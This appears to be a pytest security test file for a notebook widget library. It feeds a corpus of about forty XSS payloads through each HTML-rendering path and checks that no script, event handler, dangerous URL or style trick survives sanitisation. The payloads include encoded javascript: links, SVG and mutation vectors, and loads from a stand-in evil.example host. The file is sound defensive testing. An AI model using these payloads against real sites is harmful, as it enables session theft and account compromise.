"""Untrusted text never becomes active content: a corpus of XSS payloads, each put through every way the
widgets turn run data into HTML (markdown, review payloads as text and as tables, state values, tool
results, tracebacks, the sanitised widget itself), and the HTML the front end would get parsed and checked
for script, event handlers, dangerous URLs, resource loads and style tricks. One of them also runs in a
real browser (tests/browser)."""

from __future__ import annotations

import ast
import html
import pathlib
import re
from html.parser import HTMLParser
from typing import Any, TypedDict

import pytest

from wfkit import END, START, MessagesState, StateGraph, interrupt
from wfkit.messages import AIMessage, HumanMessage, ToolMessage
from wfkit.widgets import Debugger, ReviewPanel
from wfkit.widgets._format import markdown_html, payload_html
from wfkit.widgets._html_widget import SafeHTML
from wfkit.widgets._sanitize import STYLE_PROPERTIES, URL_SCHEMES, safe_html

PAYLOADS = [
    "<script>window.__pwned = 1</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src=x onerror="window.__pwned=1">',
    "<img src=x onerror=window.__pwned=1//",
    '<svg onload="window.__pwned=1"><circle r="4"/></svg>',
    "<svg><script>window.__pwned=1</script></svg>",
    '<svg><a xlink:href="javascript:window.__pwned=1"><text>x</text></a></svg>',
    '<svg><foreignObject><img src=x onerror="window.__pwned=1"></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    '<iframe src="javascript:window.__pwned=1"></iframe>',
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    '<object data="javascript:window.__pwned=1"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<a href="javascript:window.__pwned=1">click</a>',
    '<a href="&#106;avascript:window.__pwned=1">click</a>',
    '<a href="&#x6A;&#x61;vascript&#58;window.__pwned=1">click</a>',
    '<a href=" java\tscript:window.__pwned=1">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    "[a](javascript:window.__pwned=1)",
    "[a](&#106;avascript:window.__pwned=1)",
    "[a](JaVaScRiPt:window.__pwned=1)",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:window.__pwned=1)",
    "[a][ref]\n\n[ref]: javascript:window.__pwned=1",
    "[a][ref]\n\n[ref]: &#106;avascript:window.__pwned=1",
    '<div title="x" onmouseover="window.__pwned=1">hover</div>',
    '" onmouseover="window.__pwned=1" x="',
    "' onfocus='window.__pwned=1' autofocus x='",
    '"><script>window.__pwned=1</script>',
    "</textarea><script>window.__pwned=1</script>",
    '<div style="background:url(javascript:window.__pwned=1)">x</div>',
    '<div style="width: expression(window.__pwned=1)">x</div>',
    '<style>*{background:url(https://evil.example/leak)}</style>',
    '<form action="javascript:window.__pwned=1"><button>go</button></form>',
    '<details open ontoggle="window.__pwned=1">x</details>',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=1">',
    "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned=1>\">",
]

ALLOWED_TAGS = {
    "a", "abbr", "b", "blockquote", "br", "code", "dd", "del", "details", "div", "dl", "dt", "em", "h1", "h2",
    "h3", "h4", "h5", "h6", "hr", "i", "ins", "kbd", "li", "mark", "ol", "p", "pre", "s", "small", "span",
    "strong", "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr", "u", "ul",
    "svg", "g", "title", "desc", "path", "polygon", "polyline", "ellipse", "circle", "rect", "line", "text",
    "tspan",
}
URL_ATTRIBUTES = {"href", "src", "xlink:href", "action", "formaction", "data", "srcdoc", "background", "poster"}


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def active_content(markup: str) -> list[str]:
    """Everything in `markup` a browser could run, load or navigate to; [] when it is inert."""
    parser = _Collector()
    parser.feed(markup)
    parser.close()
    found = []
    for tag, attrs in parser.tags:
        if tag not in ALLOWED_TAGS:
            found.append(f"tag <{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                found.append(f"handler {name} on <{tag}>")
            if name in URL_ATTRIBUTES:
                if name != "href" or tag != "a":
                    found.append(f"{name} on <{tag}>")
                scheme = re.sub(r"[\x00-\x20]", "", html.unescape(value)).partition(":")
                if scheme[1] and scheme[0].lower() not in URL_SCHEMES and "/" not in scheme[0]:
                    found.append(f"{scheme[0]}: URL in {name}")
            if name == "style":
                lowered = html.unescape(value).lower()
                if any(bad in lowered for bad in ("url(", "expression", "javascript", "@import", "\\")):
                    found.append(f"style {value!r}")
                for declaration in filter(None, (d.strip() for d in lowered.split(";"))):
                    prop = declaration.partition(":")[0].strip()
                    if prop not in STYLE_PROPERTIES:
                        found.append(f"style property {prop}")
    return found


def test_the_checker_itself_sees_active_content():
    assert active_content('<img src=x onerror="alert(1)">') == ["tag <img>", "src on <img>",
                                                                "handler onerror on <img>"]
    assert active_content('<a href="&#106;avascript:alert(1)">a</a>') == ["javascript: URL in href"]
    assert active_content('<div style="background:url(x)">x</div>') == ["style 'background:url(x)'",
                                                                        "style property background"]
    assert active_content('<a href="https://example.com/a:b">a</a><p style="color:red">x</p>') == []


# -- the entry points: each takes one payload and returns every HTML string the front end would get ----

class Doc(TypedDict):
    draft: str
    verdict: Any


def _widget_html(widget) -> list[str]:
    """The value of every HTML widget under `widget` (what ipywidgets sets as innerHTML)."""
    import ipywidgets

    found, todo, seen = [], [widget], set()
    while todo:
        current = todo.pop()
        if id(current) in seen:
            continue
        seen.add(id(current))
        if isinstance(current, ipywidgets.HTML):
            found.append(current.value)
        todo.extend(getattr(current, "children", ()))
        for name in ("cards", "graph_view", "review_panel", "panel"):
            child = getattr(current, name, None)
            todo.extend(child if isinstance(child, (list, tuple)) else [child] if child is not None else [])
    return found


def _review(payload_of):
    def review(state):
        return {"verdict": interrupt(payload_of(state["draft"]))}

    builder = StateGraph(Doc)
    builder.add_node("review", review)
    builder.add_edge(START, "review")
    builder.add_edge("review", END)
    return builder.compile()


def via_markdown(payload):
    return [markdown_html(payload)]


def via_review_text(payload):
    run = _review(lambda draft: draft).start({"draft": payload, "verdict": None})
    run.run()
    return _widget_html(ReviewPanel(run))


def via_review_table(payload):
    run = _review(lambda draft: {"question": draft, "nested": [{"why": draft}]}).start(
        {"draft": payload, "verdict": None})
    run.run()
    return _widget_html(ReviewPanel(run))


def via_state_values(payload):
    def write(state):
        return {"draft": state["draft"] + " " + payload, "verdict": {payload: [payload]}}

    builder = StateGraph(Doc)
    builder.add_node(write)
    builder.add_edge(START, "write")
    builder.add_edge("write", END)
    debugger = Debugger(builder.compile(), {"draft": payload, "verdict": None})
    debugger.step()
    return _widget_html(debugger) + [debugger.inspector.value]


def via_tool_result(payload):
    def call(state):
        return {"messages": [AIMessage(content=payload, tool_calls=[
            {"name": payload, "args": {"q": payload}, "id": "call_1", "type": "tool_call"}])]}

    def tool_node(state):
        return {"messages": [ToolMessage(content=payload, tool_call_id="call_1")]}

    builder = StateGraph(MessagesState)
    builder.add_node(call)
    builder.add_node("tool_node", tool_node)
    builder.add_edge(START, "call")
    builder.add_edge("call", "tool_node")
    builder.add_edge("tool_node", END)
    debugger = Debugger(builder.compile(), {"messages": [HumanMessage(content=payload)]})
    debugger.step()
    debugger.step()
    return _widget_html(debugger) + [debugger.inspector.value]


def via_traceback(payload):
    def broken(state):
        raise ValueError(payload)

    builder = StateGraph(Doc)
    builder.add_node(broken)
    builder.add_edge(START, "broken")
    builder.add_edge("broken", END)
    debugger = Debugger(builder.compile(), {"draft": "", "verdict": None})
    debugger.step()
    assert debugger.status_text() == "step 0 · failed: broken"
    return [debugger.error_view.value] + _widget_html(debugger)


def via_safe_widget(payload):
    return [SafeHTML(payload).value, SafeHTML(value=f"<div>{payload}</div>").value]


ENTRY_POINTS = [via_markdown, via_review_text, via_review_table, via_state_values, via_tool_result,
                via_traceback, via_safe_widget]


@pytest.mark.parametrize("entry", ENTRY_POINTS, ids=lambda f: f.__name__)
def test_no_payload_becomes_active_content(entry):
    problems = {}
    for payload in PAYLOADS:
        found = [problem for markup in entry(payload) for problem in active_content(markup)]
        if found:
            problems[payload] = found
    assert problems == {}


@pytest.mark.parametrize("payload", ["[a](javascript:window.__pwned=1)", "[a](&#106;avascript:alert(1))"])
def test_a_refused_link_keeps_its_text_and_loses_its_target(payload, text_of):
    shown = markdown_html(payload)
    assert "<a" not in shown
    assert text_of(shown) == html.unescape(payload).replace("&#106;", "j")


def test_raw_html_in_markdown_is_shown_as_text(text_of):
    shown = payload_html('Publish <img src=x onerror="alert(1)"> **now**?')
    assert text_of(shown) == 'Publish <img src=x onerror="alert(1)"> now ?'
    assert "<strong>now</strong>" in shown


def test_good_markup_survives_the_sanitiser():
    assert markdown_html("| a | b |\n|---|---|\n| 1 | **2** |").startswith("<table>\n<thead>")
    assert markdown_html("[docs](https://example.com/x?y=1)") == (
        '<p><a href="https://example.com/x?y=1" rel="noopener noreferrer nofollow">docs</a></p>')
    svg = '<svg viewBox="0 0 10 10" width="10pt"><g class="node wf-current"><title>a</title></g></svg>'
    assert safe_html(svg) == svg
    assert safe_html('<tr class="wf-changed" data-key="n" style="background-color:#fff4d6"></tr>') == ""  # no table
    assert safe_html('<table><tr class="wf-changed" data-key="n" style="background-color:#fff4d6"><td>1</td>'
                     '</tr></table>') == ('<table><tbody><tr class="wf-changed" data-key="n" '
                                          'style="background-color:#fff4d6"><td>1</td></tr></tbody></table>')


def test_the_graph_picture_keeps_its_marks_through_the_sanitiser(agent, question):
    debugger = Debugger(agent, question)
    debugger.step()
    picture = debugger.graph_view.children[1].value
    assert 'class="node wf-current"' in picture and "<title>llm_call</title>" in picture
    assert active_content(picture) == []


def test_every_html_widget_in_wfkit_is_the_sanitising_one():
    """No module of wfkit.widgets builds an `ipywidgets.HTML` (or HTMLMath) directly: only `SafeHTML` does."""
    root = pathlib.Path(__file__).resolve().parents[2] / "wfkit" / "widgets"
    offenders = []
    for path in sorted(root.glob("*.py")):
        if path.name == "_html_widget.py":
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Attribute) and node.attr in ("HTML", "HTMLMath") and \
                    isinstance(node.value, ast.Name) and node.value.id == "ipywidgets":
                offenders.append(f"{path.name}:{node.lineno}")
            if isinstance(node, ast.ImportFrom) and node.module == "ipywidgets" and \
                    any(alias.name in ("HTML", "HTMLMath") for alias in node.names):
                offenders.append(f"{path.name}:{node.lineno}")
    assert offenders == []
